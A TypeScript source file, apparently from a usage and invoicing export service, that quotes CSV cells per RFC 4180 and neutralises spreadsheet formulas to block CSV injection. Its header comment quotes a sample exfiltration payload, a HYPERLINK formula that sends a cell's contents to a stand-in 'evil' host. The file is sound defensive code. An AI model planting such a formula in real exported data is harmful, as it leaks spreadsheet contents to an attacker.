/**
 * CSV cells for every export (usage, invoices, FOCUS). RFC 4180 quoting, plus formula
 * neutralisation: a cell a spreadsheet would run as a formula (starting with = + - @, tab or CR)
 * gets a leading apostrophe, so a tenant-chosen user, model or tier name such as
 * `=HYPERLINK("http://evil/?"&A1)` is shown as text in an admin's spreadsheet instead of executed
 * (OWASP "CSV Injection"). Plain numbers (negative adjustment amounts like -120 or -1.20) stay numbers.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

export const csvCell = (value: unknown): string => {
  const raw = value === null || value === undefined ? "" : typeof value === "string" ? value : JSON.stringify(value);
  const text = FORMULA_START.test(raw) && !PLAIN_NUMBER.test(raw) ? `'${raw}` : raw;
  return /[",\n\r\t]/.test(text) || text !== raw ? `"${text.replace(/"/g, '""')}"` : text;
};

export const toCsv = (rows: ReadonlyArray<Record<string, unknown>>, columns: readonly string[]): string =>
  [columns.join(","), ...rows.map((r) => columns.map((c) => csvCell(r[c])).join(","))].join("\n") + "\n";
